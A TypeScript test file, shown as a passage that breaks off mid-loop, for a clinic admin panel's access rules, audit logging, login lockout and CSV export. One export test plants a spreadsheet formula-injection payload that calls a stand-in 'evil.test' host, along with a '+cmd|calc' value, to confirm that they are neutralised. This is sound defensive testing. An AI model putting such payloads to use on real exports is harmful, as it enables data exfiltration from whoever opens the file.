import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Role } from '../server/access/roles.js';
import { userActor } from '../server/access/actor.js';
import { requestDiagnostic, bookVisit } from '../server/appointments/index.js';
import { createDiagnostic } from '../server/catalogue/index.js';
import { db } from '../server/db/data-source.js';
import { User } from '../server/db/entities/user.js';
import { AuditEvent } from '../server/db/entities/audit-event.js';
import { LoginAttempt } from '../server/db/entities/login-attempt.js';
import { Notification } from '../server/db/entities/notification.js';
import { Appointment } from '../server/db/entities/appointment.js';
import { addJournalEntry, addPrescription } from '../server/records/index.js';
import { clinicTimeToUtc } from '../server/shared/clinic-time.js';
import { clock } from '../server/shared/clock.js';
import { FIXTURE_PASSWORD, makeUser } from '../server/users/test-fixtures.js';
import { requestPasswordReset } from '../server/users/passwords.js';
import { PanelClient, startServer, type PanelResponse } from './panel-support.js';
import { useTestDatabase } from './support/db.js';

useTestDatabase();

let server: Awaited<ReturnType<typeof startServer>>;
const people = {} as Record<'superuser' | 'admin' | 'admin2' | 'doctor' | 'operator' | 'pharmacist' | 'patient', User>;
const ids = { request: 0, visit: 0, journal: 0, prescription: 0, diagnostic: 0, audit: 0, loginAttempt: 0, mail: 0 };
const clients = {} as Record<string, PanelClient>;

/** The next weekday (clinic time) at least two days ahead, as YYYY-MM-DD. */
function nextWeekday(): string {
  const d = new Date(clock.now().getTime() + 2 * 86_400_000);
  while ([0, 6].includes(d.getUTCDay())) d.setUTCDate(d.getUTCDate() + 1);
  return d.toISOString().slice(0, 10);
}

/** Everything a forbidden panel action might change, read straight from the tables. */
async function fingerprint(): Promise<string> {
  const q = (sql: string) => db().query(sql);
  return JSON.stringify([
    await q('SELECT id, role, isBlocked, isActive, firstName, lastName, email FROM users ORDER BY id'),
    await q('SELECT userId, acceptingBookings FROM doctor_profiles ORDER BY userId'),
    await q('SELECT id, name, isActive, durationMinutes FROM diagnostics ORDER BY id'),
    await q('SELECT id, status, startsAt FROM appointments ORDER BY id'),
    await q('SELECT COUNT(*) AS n FROM journal_entries'),
    await q('SELECT COUNT(*) AS n FROM prescriptions'),
    await q('SELECT COUNT(*) AS n FROM one_time_tokens'),
    await q('SELECT COUNT(*) AS n FROM notifications'),
  ]);
}

/** A refusal: a 4xx with the error envelope (SPEC §8), or the login page; never a 200 with a notice, never a 500. */
function isRefusal(res: PanelResponse): boolean {
  if (res.status === 302) return res.headers.get('location') === '/admin/login';
  if (res.status < 400 || res.status >= 500) return false;
  try {
    const body = res.json() as { error?: { code?: string; message?: string } };
    return typeof body.error?.code === 'string' && typeof body.error.message === 'string';
  } catch {
    return false;
  }
}

beforeAll(async () => {
  for (const role of ['superuser', 'admin', 'doctor', 'operator', 'pharmacist', 'patient'] as Role[]) {
    people[role as keyof typeof people] = await makeUser(role);
  }
  people.admin2 = await makeUser('admin');
  const adminActor = userActor(people.admin);
  const diagnostic = await createDiagnostic(adminActor, { name: 'MRI', durationMinutes: 30 } as never);
  ids.diagnostic = diagnostic.id;
  const request = await requestDiagnostic(userActor(people.patient), { diagnosticId: diagnostic.id, note: 'Knee pain' });
  ids.request = request.id;
  const visit = await bookVisit(userActor(people.operator), {
    patientId: people.patient.id, doctorId: people.doctor.id, startsAt: clinicTimeToUtc(nextWeekday(), 10 * 60).toISOString(),
  });
  ids.visit = visit.id;
  const entry = await addJournalEntry(userActor(people.doctor), { patientId: people.patient.id, diagnosis: 'Sprain', description: 'Left knee' });
  ids.journal = entry.id;
  const prescription = await addPrescription(userActor(people.pharmacist), {
    patientId: people.patient.id, medication: 'Ibuprofen', dosage: '400 mg', instructions: 'Twice a day with food',
  });
  ids.prescription = prescription.id;

  // A reset link for the superuser waits in the mail log: admins must not be able to read it.
  await requestPasswordReset(people.superuser.email);

  server = await startServer();
  for (const role of ['superuser', 'admin', 'doctor', 'operator', 'pharmacist'] as const) {
    const client = new PanelClient(server.url);
    const res = await client.login(people[role].email, FIXTURE_PASSWORD);
    expect(res.status, `${role} logs in`).toBe(302);
    clients[role] = client;
  }
  const firstId = async (table: string) => Number((await db().query(`SELECT MIN(id) AS id FROM ${table}`))[0].id);
  ids.audit = await firstId('audit_events');
  ids.loginAttempt = await firstId('login_attempts');
  ids.mail = await firstId('notifications');
}, 120_000);

afterAll(async () => {
  await server?.close();
});

const rec = (resource: string, id: () => number, action: string) => () => `/admin/api/resources/${resource}/records/${id()}/${action}`;
const res = (resource: string, action: string) => () => `/admin/api/resources/${resource}/actions/${action}`;
const patientId = () => people.patient.id;
const doctorId = () => people.doctor.id;
const adminId = () => people.admin2.id;

/** SPEC §4's forbidden pairs, as panel calls: role, what, path, POST fields (none = a read). */
const FORBIDDEN: [string, string, () => string, Record<string, string>?][] = [
  // staff accounts
  ['doctor', 'block a doctor', rec('Staff', doctorId, 'block'), { reason: 'x' }],
  ['operator', 'block a doctor', rec('Staff', doctorId, 'block'), { reason: 'x' }],
  ['pharmacist', 'block a doctor', rec('Staff', doctorId, 'block'), { reason: 'x' }],
  ['operator', 'read an admin account', rec('Staff', adminId, 'show')],
  ['admin', 'block another admin', rec('Staff', adminId, 'block'), { reason: 'x' }],
  ['admin', 'grant admin', rec('Staff', doctorId, 'grantAdmin'), {}],
  ['admin', 'revoke admin', rec('Staff', adminId, 'revokeAdmin'), { role: 'doctor' }],
  ['doctor', 'grant admin', rec('Staff', doctorId, 'grantAdmin'), {}],
  ['doctor', 'invite staff', res('Staff', 'new'), { email: 'new@x.test', firstName: 'A', lastName: 'B', role: 'doctor' }],
  ['operator', 'change a role', rec('Staff', doctorId, 'changeRole'), { role: 'operator' }],
  ['operator', 'stop a doctor\'s bookings', rec('Staff', doctorId, 'stopBookings'), {}],
  // patients
  ['doctor', 'block a patient', rec('Patients', patientId, 'block'), { reason: 'x' }],
  ['operator', 'block a patient', rec('Patients', patientId, 'block'), { reason: 'x' }],
  ['pharmacist', 'edit a patient', rec('Patients', patientId, 'editProfile'), { firstName: 'Changed' }],
  ['operator', 'delete a patient', rec('Patients', patientId, 'deleteAccount'), {}],
  ['doctor', 'resend activation', rec('Patients', patientId, 'resendActivation'), {}],
  // catalogue
  ['doctor', 'add a diagnostic', res('Diagnostics', 'new'), { name: 'CT' }],
  ['operator', 'edit a diagnostic', rec('Diagnostics', () => ids.diagnostic, 'edit'), { name: 'Changed' }],
  ['pharmacist', 'delete a diagnostic', rec('Diagnostics', () => ids.diagnostic, 'delete'), {}],
  // requests and appointments
  ['pharmacist', 'list appointments', res('Appointments', 'list')],
  ['pharmacist', 'list requests', res('Requests', 'list')],
  ['doctor', 'schedule a request', rec('Requests', () => ids.request, 'schedule'), { startsAt: clinicTimeToUtc(nextWeekday(), 11 * 60).toISOString() }],
  ['doctor', 'cancel an appointment', rec('Appointments', () => ids.visit, 'cancel'), { reason: 'x' }],
  ['pharmacist', 'withdraw a request', rec('Requests', () => ids.request, 'withdraw'), {}],
  ['doctor', 'book a visit', rec('Patients', patientId, 'bookVisit'), { doctorId: '1', startsAt: clinicTimeToUtc(nextWeekday(), 12 * 60).toISOString() }],
  // journal
  ['operator', 'list the journal', res('Journal', 'list')],
  ['operator', 'add a journal entry', rec('Patients', patientId, 'addJournalEntry'), { diagnosis: 'x', description: 'y' }],
  ['pharmacist', 'add a journal entry', rec('Patients', patientId, 'addJournalEntry'), { diagnosis: 'x', description: 'y' }],
  // prescriptions
  ['operator', 'list prescriptions', res('Prescriptions', 'list')],
  ['doctor', 'add a prescription', rec('Patients', patientId, 'addPrescription'), { medication: 'x', dosage: 'y', instructions: 'z' }],
  ['operator', 'add a prescription', rec('Patients', patientId, 'addPrescription'), { medication: 'x', dosage: 'y', instructions: 'z' }],
  // oversight
  ['doctor', 'list the audit log', res('AuditLog', 'list')],
  ['operator', 'list login attempts', res('LoginAttempts', 'list')],
  ['pharmacist', 'list mail', res('Mail', 'list')],
  ['doctor', 'export the audit log', () => '/admin/api/export/AuditLog'],
  // append-only records, for everyone
  ...(['superuser', 'admin', 'doctor'] as const).flatMap((role) => [
    [role, 'edit a journal entry', rec('Journal', () => ids.journal, 'edit'), { diagnosis: 'Changed' }],
    [role, 'delete a journal entry', rec('Journal', () => ids.journal, 'delete'), {}],
  ] as [string, string, () => string, Record<string, string>][]),
  ...(['superuser', 'admin', 'pharmacist'] as const).flatMap((role) => [
    [role, 'edit a prescription', rec('Prescriptions', () => ids.prescription, 'edit'), { medication: 'Changed' }],
    [role, 'delete a prescription', rec('Prescriptions', () => ids.prescription, 'delete'), {}],
  ] as [string, string, () => string, Record<string, string>][]),
  ['superuser', 'create a journal entry directly', res('Journal', 'new'), { patientId: '1', diagnosis: 'x', description: 'y' }],
  ['admin', 'create an appointment directly', res('Appointments', 'new'), { patientId: '1', status: 'scheduled' }],
];

describe('the panel refuses what SPEC §4 forbids', () => {
  it.each(FORBIDDEN)('refuses a %s who tries to %s, and changes nothing', async (role, _what, path, fields) => {
    const before = await fingerprint();
    const client = clients[role];
    const answer = fields ? await client.post(path(), fields) : await client.get(path());
    expect(isRefusal(answer), `${answer.status} ${answer.text.slice(0, 200)}`).toBe(true);
    expect(await fingerprint()).toBe(before);
  });
});

describe('data-changing actions change data only on POST', () => {
  it.each([
    ['admin', 'block', rec('Patients', patientId, 'block'), '?reason=x'],
    ['operator', 'schedule', rec('Requests', () => ids.request, 'schedule'), `?startsAt=${encodeURIComponent(clinicTimeToUtc(nextWeekday(), 13 * 60).toISOString())}`],
    ['operator', 'cancel', rec('Appointments', () => ids.visit, 'cancel'), '?reason=x'],
    ['doctor', 'add a journal entry', rec('Patients', patientId, 'addJournalEntry'), '?diagnosis=x&description=y'],
    ['admin', 'delete a diagnostic', rec('Diagnostics', () => ids.diagnostic, 'delete'), ''],
    ['admin', 'stop a doctor\'s bookings', rec('Staff', doctorId, 'stopBookings'), ''],
  ])('a GET from %s on "%s" shows the form and changes nothing', async (role, _what, path, query) => {
    const before = await fingerprint();
    const answer = await clients[role].get(path() + query);
    expect(answer.status).toBe(200);
    expect((answer.json() as { notice?: unknown }).notice).toBeUndefined();
    expect(await fingerprint()).toBe(before);
  });
});

describe('what each role sees', () => {
  it('never sends a password hash, and gives a pharmacist only a patient\'s name and birth date', async () => {
    const list = await clients.pharmacist.get('/admin/api/resources/Patients/actions/list');
    const records = (list.json() as { records: { params: Record<string, unknown> }[] }).records;
    const patient = records.find((r) => r.params.id === people.patient.id)!;
    expect(Object.keys(patient.params).sort()).toEqual(['dateOfBirth', 'firstName', 'id', 'lastName', 'name']);
    for (const role of ['superuser', 'admin', 'doctor', 'operator', 'pharmacist']) {
      const staff = await clients[role].get('/admin/api/resources/Staff/actions/list');
      expect(staff.text).not.toMatch(/passwordHash|\$argon2/);
    }
  });

  it('embeds only the name and birth date of the patient in a pharmacist\'s prescription list', async () => {
    const list = await clients.pharmacist.get('/admin/api/resources/Prescriptions/actions/list');
    const [first] = (list.json() as { records: { populated: Record<string, { params: Record<string, unknown> }> }[] }).records;
    expect(Object.keys(first.populated.patientId.params).sort()).toEqual(['dateOfBirth', 'firstName', 'id', 'lastName', 'name']);
  });

  it('shows a pharmacist the diagnosis of a journal entry but not its description or plan, and audits the read', async () => {
    const reads = () => db().getRepository(AuditEvent).countBy({ action: 'read', resource: 'journalEntry', actorId: people.pharmacist.id, patientId: people.patient.id });
    const before = await reads();
    const show = await clients.pharmacist.get(`/admin/api/resources/Journal/records/${ids.journal}/show`);
    expect(await reads()).toBe(before + 1);
    const params = (show.json() as { record: { params: Record<string, unknown> } }).record.params;
    expect(params.diagnosis).toBe('Sprain');
    expect(params).not.toHaveProperty('description');
    expect(params).not.toHaveProperty('plan');
  });

  it('audits a staff list of medical records once for each patient it showed, and a filtered list once for its patient', async () => {
    const other = await makeUser('patient');
    await addJournalEntry(userActor(people.doctor), { patientId: other.id, diagnosis: 'Migraine', description: 'Since Monday' });
    const reads = (patientId: number) => db().getRepository(AuditEvent).countBy({ action: 'read', resource: 'journalEntry', actorId: people.doctor.id, patientId });
    const before = [await reads(people.patient.id), await reads(other.id)];

    const list = await clients.doctor.get('/admin/api/resources/Journal/actions/list');
    const shown = (list.json() as { records: { params: { patientId: number } }[] }).records.map((r) => r.params.patientId);
    expect(new Set(shown)).toEqual(new Set([people.patient.id, other.id]));
    expect([await reads(people.patient.id), await reads(other.id)]).toEqual([before[0] + 1, before[1] + 1]);

    await clients.doctor.get(`/admin/api/resources/Journal/actions/list?filters.patientId=${other.id}`);
    expect([await reads(people.patient.id), await reads(other.id)]).toEqual([before[0] + 1, before[1] + 2]);

    // The reference picker's search shows diagnoses too: audited the same way.
    await clients.doctor.get('/admin/api/resources/Journal/search/Migr');
    expect([await reads(people.patient.id), await reads(other.id)]).toEqual([before[0] + 1, before[1] + 3]);
  });

  it('shows an operator only doctors among the staff, and no patient notes', async () => {
    const staff = await clients.operator.get('/admin/api/resources/Staff/actions/list');
    const roles = (staff.json() as { records: { params: { role: string } }[] }).records.map((r) => r.params.role);
    expect(new Set(roles)).toEqual(new Set(['doctor']));
    const requests = await clients.operator.get('/admin/api/resources/Requests/actions/list');
    expect(requests.text).not.toContain('Knee pain');
  });
});

describe('the panel\'s login', () => {
  it('refuses a patient with the same answer as a wrong password', async () => {
    const asPatient = await new PanelClient(server.url).login(people.patient.email, FIXTURE_PASSWORD);
    const wrong = await new PanelClient(server.url).login(people.doctor.email, 'not the password');
    expect(asPatient.status).toBe(401);
    expect(wrong.status).toBe(401);
    // The page carries its translations (this message among them), so compare the shown error itself, and the whole page.
    expect(asPatient.text).toContain('errorMessage":"Email or password is wrong."');
    expect(asPatient.text).toBe(wrong.text);
    const unknown = await new PanelClient(server.url).login('nobody@fixture.test', 'not the password');
    expect([unknown.status, unknown.text]).toEqual([401, wrong.text]);
  });

  it('takes the login as JSON too, with the same answers', async () => {
    const staff = new PanelClient(server.url);
    expect((await staff.post('/admin/login', { email: people.doctor.email, password: FIXTURE_PASSWORD })).status).toBe(302);
    expect((await staff.get('/admin/api/resources/Patients/actions/list')).status).toBe(200);
    const patient = await new PanelClient(server.url).post('/admin/login', { email: people.patient.email, password: FIXTURE_PASSWORD });
    expect(patient.status).toBe(401);
    expect(patient.text).toContain('Email or password is wrong.');
  });

  it('refuses the sixth failed login within ten minutes even with a fresh cookie jar, and the right password while locked', async () => {
    const target = await makeUser('operator');
    for (let i = 1; i <= 5; i += 1) {
      const attempt = await new PanelClient(server.url).login(target.email, `wrong password ${i}`);
      expect(attempt.status, `attempt ${i}`).toBe(401);
    }
    const sixth = await new PanelClient(server.url).login(target.email, 'wrong password 6');
    expect(sixth.status).toBe(429);
    expect(Number(sixth.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(sixth.text).toContain('Too many failed attempts');
    const correct = await new PanelClient(server.url).login(target.email, FIXTURE_PASSWORD);
    expect(correct.status).toBe(429);
    expect(correct.headers.get('set-cookie') ?? '').not.toContain('qhealth.sid');
  });

  it('sends a blocked user to the login page on their next request', async () => {
    const doctor = await makeUser('doctor');
    const session = new PanelClient(server.url);
    expect((await session.login(doctor.email, FIXTURE_PASSWORD)).status).toBe(302);
    expect((await session.get('/admin/api/resources/Patients/actions/list')).status).toBe(200);
    // Blocked by an admin in another session, through the panel.
    const blocked = await clients.admin.post(`/admin/api/resources/Staff/records/${doctor.id}/block`, { reason: 'Left the clinic' });
    expect((blocked.json() as { notice: { type: string } }).notice.type).toBe('success');
    expect((await db().getRepository(User).findOneByOrFail({ id: doctor.id })).isBlocked).toBe(true);
    const next = await session.get('/admin/api/resources/Patients/actions/list');
    expect(next.status).toBe(302);
    expect(next.headers.get('location')).toBe('/admin/login');
  });
});

describe('the accounts nobody below may touch', () => {
  const su = () => people.superuser.id;
  const admin2 = () => people.admin2.id;
  const self = (role: 'admin' | 'superuser') => () => people[role].id;
  it.each([
    ...(['block', 'deleteAccount', 'changeRole', 'resendActivation', 'unblock', 'stopBookings'] as const).flatMap((action) => [
      ['admin', action, 'the superuser', su] as const,
      ['admin', action, 'another admin', admin2] as const,
    ]),
    ['admin', 'revokeAdmin', 'another admin', admin2] as const,
    ['admin', 'block', 'themselves', self('admin')] as const,
    ['admin', 'deleteAccount', 'themselves', self('admin')] as const,
    ['admin', 'changeRole', 'themselves', self('admin')] as const,
    ['superuser', 'block', 'themselves', self('superuser')] as const,
    ['superuser', 'deleteAccount', 'themselves', self('superuser')] as const,
    ['superuser', 'revokeAdmin', 'themselves', self('superuser')] as const,
    ['superuser', 'changeRole', 'themselves', self('superuser')] as const,
  ])('refuses an %s who tries %s on %s, and changes nothing', async (role, action, _whom, id) => {
    const before = await fingerprint();
    const answer = await clients[role].post(`/admin/api/resources/Staff/records/${id()}/${action}`, { reason: 'x', role: 'doctor', specialty: 'General practice' });
    expect(isRefusal(answer), `${answer.status} ${answer.text.slice(0, 200)}`).toBe(true);
    expect(await fingerprint()).toBe(before);
  });
});

describe('access ends with the account\'s standing', () => {
  it('sends a demoted admin to the login page on their next request, and lets them back in with their new role only', async () => {
    const admin = await makeUser('admin');
    const session = new PanelClient(server.url);
    expect((await session.login(admin.email, FIXTURE_PASSWORD)).status).toBe(302);
    expect((await session.get('/admin/api/resources/AuditLog/actions/list')).status).toBe(200);
    const revoked = await clients.superuser.post(`/admin/api/resources/Staff/records/${admin.id}/revokeAdmin`, { role: 'operator' });
    expect(revoked.status, revoked.text.slice(0, 200)).toBe(200);
    const next = await session.get('/admin/api/resources/AuditLog/actions/list');
    expect([next.status, next.headers.get('location')]).toEqual([302, '/admin/login']);
    const again = new PanelClient(server.url);
    expect((await again.login(admin.email, FIXTURE_PASSWORD)).status).toBe(302);
    expect((await again.get('/admin/api/resources/AuditLog/actions/list')).status).toBe(403);
  });

  it('keeps a patient signed in to the portal out of the panel', async () => {
    const patient = new PanelClient(server.url);
    const portal = await patient.post('/api/auth/login', { email: people.patient.email, password: FIXTURE_PASSWORD });
    expect(portal.status).toBe(200);
    for (const path of ['/admin', '/admin/api/resources/Patients/actions/list', '/admin/api/dashboard']) {
      const answer = await patient.get(path);
      expect([answer.status, answer.headers.get('location')], path).toEqual([302, '/admin/login']);
    }
  });
});

describe('staff invitation and oversight', () => {
  it('invites a doctor who sets a password on /admin/invitation and can then sign in', async () => {
    const invited = await clients.admin.post('/admin/api/resources/Staff/actions/new', {
      email: 'new.doctor@qhealth.test', firstName: 'Zoë', lastName: "D'Arcy", role: 'doctor', specialty: 'Cardiology',
    });
    expect((invited.json() as { notice: { type: string; message: string } }).notice).toMatchObject({ type: 'success' });
    const [mail] = await db().getRepository(Notification).find({ where: { kind: 'staff_invitation', toEmail: 'new.doctor@qhealth.test' } });
    const link = new URL(String(mail.data.link), server.url);
    const token = link.searchParams.get('token')!;
    const anonymous = new PanelClient(server.url);
    expect((await anonymous.get(`/admin/invitation?token=${encodeURIComponent(token)}`)).text).toContain('Set password');
    const mismatch = await anonymous.request('POST', '/admin/invitation', new URLSearchParams({ token, password: 'a long new password', repeat: 'different' }).toString(), 'application/x-www-form-urlencoded');
    expect(mismatch.status).toBe(400);
    const accepted = await anonymous.request('POST', '/admin/invitation', new URLSearchParams({ token, password: 'a long new password', repeat: 'a long new password' }).toString(), 'application/x-www-form-urlencoded');
    expect(accepted.status).toBe(200);
    expect((await new PanelClient(server.url).login('new.doctor@qhealth.test', 'a long new password')).status).toBe(302);
    const reused = await anonymous.request('POST', '/admin/invitation', new URLSearchParams({ token, password: 'another long password', repeat: 'another long password' }).toString(), 'application/x-www-form-urlencoded');
    expect(reused.status).toBeGreaterThanOrEqual(400);
  });

  it('names who acted in each audit event for admins, read through the same access check as the Staff and Patients lists', async () => {
    const list = await clients.admin.get(`/admin/api/resources/AuditLog/actions/list?filters.actorId=${people.pharmacist.id}`);
    const records = (list.json() as { records: { params: Record<string, unknown> }[] }).records;
    expect(records.length).toBeGreaterThan(0);
    for (const r of records) {
      expect(r.params.actorName).toBe(`${people.pharmacist.firstName} ${people.pharmacist.lastName}`);
      expect(r.params.actorHref).toBe(`/admin/resources/Staff/records/${people.pharmacist.id}/show`);
    }
    const [event] = await db().getRepository(AuditEvent).find({ where: { actorId: people.patient.id }, take: 1 });
    const shown = await clients.superuser.get(`/admin/api/resources/AuditLog/records/${event.id}/show`);
    const params = (shown.json() as { record: { params: Record<string, unknown> } }).record.params;
    expect(params.actorName).toBe(`${people.patient.firstName} ${people.patient.lastName}`);
    expect(params.actorHref).toBe(`/admin/resources/Patients/records/${people.patient.id}/show`);
  });

  it('exports the filtered audit log as CSV', async () => {
    const csv = await clients.admin.get(`/admin/api/export/AuditLog?filters.actorId=${people.admin.id}`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const [header, ...rows] = csv.text.trim().split('\n');
    expect(header.split(',').slice(0, 5)).toEqual(['id', 'at', 'actorId', 'actorRole', 'action']);
    const total = await db().getRepository(AuditEvent).countBy({ actorId: people.admin.id });
    expect(total).toBeGreaterThan(0);
    expect(rows).toHaveLength(total);
    expect(rows.every((r) => r.split(',')[2] === String(people.admin.id))).toBe(true);
  });

  it('exports what a stranger typed so that a spreadsheet shows it rather than runs it', async () => {
    const email = '=hyperlink("http://evil.test/?"&a1)@x.test';
    await db().getRepository(LoginAttempt).insert({
      email, ip: '10.9.8.7', userAgent: '+cmd|calc', channel: 'portal', success: false, reason: 'unknown', at: clock.now(),
    });
    const csv = await clients.admin.get(`/admin/api/export/LoginAttempts?filters.email=${encodeURIComponent(email)}`);
    expect(csv.status).toBe(200);
    const [, row] = csv.text.trim().split('\n');
    expect(row).toContain(`"'=hyperlink(""http://evil.test/?""&a1)@x.test"`);
    expect(row).toContain(",'+cmd|calc,");
    expect(row).toContain(',10.9.8.7,');
  });
});

describe('custom actions call the services', () => {
  const notice = (r: PanelResponse) => (r.json() as { notice: { type: string; message: string } }).notice;

  it('books a doctor visit into a free slot once, and refuses the same slot twice with the collision', async () => {
    const startsAt = clinicTimeToUtc(nextWeekday(), 16 * 60).toISOString();
    const other = await makeUser('patient');
    const first = await clients.operator.post(`/admin/api/resources/Patients/records/${other.id}/bookVisit`, { doctorId: String(people.doctor.id), startsAt });
    expect(notice(first).type).toBe('success');
    const before = await db().getRepository(Appointment).countBy({ doctorId: people.doctor.id });
    const third = await makeUser('patient');
    const second = await clients.operator.post(`/admin/api/resources/Patients/records/${third.id}/bookVisit`, { doctorId: String(people.doctor.id), startsAt });
    expect(second.status).toBe(409);
    expect(notice(second).type).toBe('error');
    expect((second.json() as { error: { message: string } }).error.message).toMatch(/already has a visit/);
    expect(await db().getRepository(Appointment).countBy({ doctorId: people.doctor.id })).toBe(before);
  });

  it('offers free slots on GET and cancels on POST with the reason', async () => {
    const form = await clients.operator.get(`/admin/api/resources/Patients/records/${people.patient.id}/bookVisit?doctorId=${people.doctor.id}&date=${nextWeekday()}`);
    const slots = (form.json() as { form: { slots: { startsAt: string }[] } }).form.slots;
    expect(slots.length).toBeGreaterThan(0);
    expect(slots.map((s) => s.startsAt)).not.toContain(clinicTimeToUtc(nextWeekday(), 10 * 60).toISOString());
    const cancelled = await clients.operator.post(`/admin/api/resources/Appointments/records/${ids.visit}/cancel`, { reason: 'Doctor ill' });
    expect(notice(cancelled).type).toBe('success');
    const row = await db().getRepository(Appointment).findOneByOrFail({ id: ids.visit });
    expect(row).toMatchObject({ status: 'cancelled', cancelReason: 'Doctor ill', cancelledById: people.operator.id });
  });

  it('lets only the superuser grant admin', async () => {
    const pharmacist = await makeUser('pharmacist');
    const granted = await clients.superuser.post(`/admin/api/resources/Staff/records/${pharmacist.id}/grantAdmin`, {});
    expect(notice(granted).type).toBe('success');
    expect((await db().getRepository(User).findOneByOrFail({ id: pharmacist.id })).role).toBe('admin');
  });
});

/**
 * SPEC §4 written out per panel action, independently of the policy module:
 * who may use each action of each resource. Every action the panel offers
 * must be listed here, so a new action cannot slip in unclassified.
 */
const STAFF = ['superuser', 'admin', 'doctor', 'operator', 'pharmacist'] as const;
type StaffRole = (typeof STAFF)[number];
const ALL: StaffRole[] = [...STAFF];
const ADMINS: StaffRole[] = ['superuser', 'admin'];
const DESK: StaffRole[] = ['superuser', 'admin', 'operator'];
const NOBODY: StaffRole[] = [];
const appendOnly = { new: NOBODY, edit: NOBODY, delete: NOBODY, bulkDelete: NOBODY };
const EXPECTED: Record<string, Record<string, StaffRole[]>> = {
  Patients: {
    list: ALL, show: ALL, search: ALL, ...appendOnly,
    block: ADMINS, unblock: ADMINS, resendActivation: ADMINS, deleteAccount: ADMINS, editProfile: ADMINS,
    bookVisit: DESK, addJournalEntry: ['superuser', 'admin', 'doctor'], addPrescription: ['superuser', 'admin', 'pharmacist'],
  },
  Staff: {
    list: ALL, show: ALL, search: ALL, new: ADMINS, edit: NOBODY, delete: NOBODY, bulkDelete: NOBODY,
    block: ADMINS, unblock: ADMINS, resendActivation: ADMINS, deleteAccount: ADMINS, changeRole: ADMINS,
    grantAdmin: ['superuser'], revokeAdmin: ['superuser'], stopBookings: ADMINS, resumeBookings: ADMINS,
  },
  Diagnostics: {
    list: ALL, show: ALL, search: ALL, new: ADMINS, edit: ADMINS, delete: ADMINS, bulkDelete: NOBODY, activate: ADMINS, deactivate: ADMINS,
  },
  Requests: { list: ['superuser', 'admin', 'doctor', 'operator'], show: ['superuser', 'admin', 'doctor', 'operator'], search: ['superuser', 'admin', 'doctor', 'operator'], ...appendOnly, schedule: DESK, withdraw: DESK },
  Appointments: { list: ['superuser', 'admin', 'doctor', 'operator'], show: ['superuser', 'admin', 'doctor', 'operator'], search: ['superuser', 'admin', 'doctor', 'operator'], ...appendOnly, cancel: DESK },
  Journal: { list: ['superuser', 'admin', 'doctor', 'pharmacist'], show: ['superuser', 'admin', 'doctor', 'pharmacist'], search: ['superuser', 'admin', 'doctor', 'pharmacist'], ...appendOnly, addCorrection: ['superuser', 'admin', 'doctor'] },
  Prescriptions: { list: ['superuser', 'admin', 'doctor', 'pharmacist'], show: ['superuser', 'admin', 'doctor', 'pharmacist'], search: ['superuser', 'admin', 'doctor', 'pharmacist'], ...appendOnly },
  AuditLog: { list: ADMINS, show: ADMINS, search: ADMINS, exportCsv: ADMINS, ...appendOnly },
  LoginAttempts: { list: ADMINS, show: ADMINS, search: ADMINS, exportCsv: ADMINS, ...appendOnly },
  Mail: { list: ADMINS, show: ADMINS, search: ADMINS, retry: ADMINS, ...appendOnly },
};
const READS = new Set(['list', 'show', 'search', 'exportCsv']);

/** One payload that would make any write succeed if the access check let it through. */
function everything(): Record<string, string> {
  return {
    reason: 'matrix', role: 'operator', specialty: 'General practice', diagnosis: 'Matrix', description: 'Matrix',
    medication: 'Matrix', dosage: '1', instructions: 'Matrix', name: 'Matrix scan', durationMinutes: '30',
    doctorId: String(people.doctor.id), startsAt: clinicTimeToUtc(nextWeekday(), 14 * 60).toISOString(),
    email: 'matrix@fixture.test', firstName: 'Matrix', lastName: 'Person', patientId: String(people.patient.id), status: 'scheduled',
  };
}

const sampleIds: Record<string, () => number> = {
  Patients: () => people.patient.id, Staff: () => people.doctor.id, Diagnostics: () => ids.diagnostic,
  Requests: () => ids.request, Appointments: () => ids.visit, Journal: () => ids.journal, Prescriptions: () => ids.prescription,
  AuditLog: () => ids.audit, LoginAttempts: () => ids.loginAttempt, Mail: () => ids.mail,
};

describe('the whole role × resource × action matrix', () => {
  it('classifies every action the panel offers', async () => {
    const { createAdmin } = await import('../admin/setup.js');
    const offered = Object.fromEntries(createAdmin().resources.map((r) => [r.id(), Object.keys(r.decorate().actions).sort()]));
    expect(offered).toEqual(Object.fromEntries(Object.entries(EXPECTED).map(([k, v]) => [k, Object.keys(v).sort()])));
  });

  const pairs = Object.entries(EXPECTED).flatMap(([resource, actions]) =>
    Object.entries(actions).flatMap(([action, allowed]) => STAFF.filter((r) => !allowed.includes(r)).map((role) => [role, resource, action] as const)));

  it.each(pairs)('refuses a %s on %s → %s, by GET and by POST, and changes nothing', async (role, resource, action) => {
    const { createAdmin } = await import('../admin/setup.js');
    const decorated = createAdmin().findResource(resource).decorate().actions[action];
    const id = sampleIds[resource]();
    const path = decorated.isBulkType() ? `/admin/api/resources/${resource}/bulk/${action}?recordIds=${id}`
      : decorated.isRecordType() ? `/admin/api/resources/${resource}/records/${id}/${action}`
        : `/admin/api/resources/${resource}/actions/${action}`;
    const before = await fingerprint();
    for (const answer of [await clients[role].get(path), await clients[role].post(path, everything())]) {
      expect(isRefusal(answer), `${answer.status} ${answer.text.slice(0, 300)}`).toBe(true);
      expect(/passwordHash|\$argon2/.test(answer.text), 'a password hash in the answer').toBe(false);
    }
    expect(await fingerprint()).toBe(before);
  });

  const reads = Object.entries(EXPECTED).flatMap(([resource, actions]) =>
    Object.entries(actions).filter(([action]) => READS.has(action) && action !== 'exportCsv')
      .flatMap(([action, allowed]) => allowed.map((role) => [role, resource, action] as const)));

  it.each(reads)('lets a %s read %s → %s, with no secret in the answer', async (role, resource, action) => {
    const path = action === 'show' ? `/admin/api/resources/${resource}/records/${sampleIds[resource]()}/show` : `/admin/api/resources/${resource}/actions/${action}`;
    const answer = await clients[role].get(path);
    expect(answer.status, answer.text.slice(0, 300)).toBe(200);
    const secret = /passwordHash|\$argon2|token=[A-Za-z0-9_-]{8}/.exec(answer.text);
    expect(secret?.[0], 'a secret in the answer').toBeUndefined();
  });

  it('changes nothing when any data-changing action is opened with GET, even with a full query', async () => {
    const query = `?${new URLSearchParams(everything())}`;
    const { createAdmin } = await import('../admin/setup.js');
    const admin = createAdmin();
    for (const [resource, actions] of Object.entries(EXPECTED)) {
      for (const action of Object.keys(actions).filter((a) => !READS.has(a) && actions[a].includes('superuser'))) {
        const path = admin.findResource(resource).decorate().actions[action].isRecordType()
          ? `/admin/api/resources/${resource}/records/${sampleIds[resource]()}/${action}` : `/admin/api/resources/${resource}/actions/${action}`;
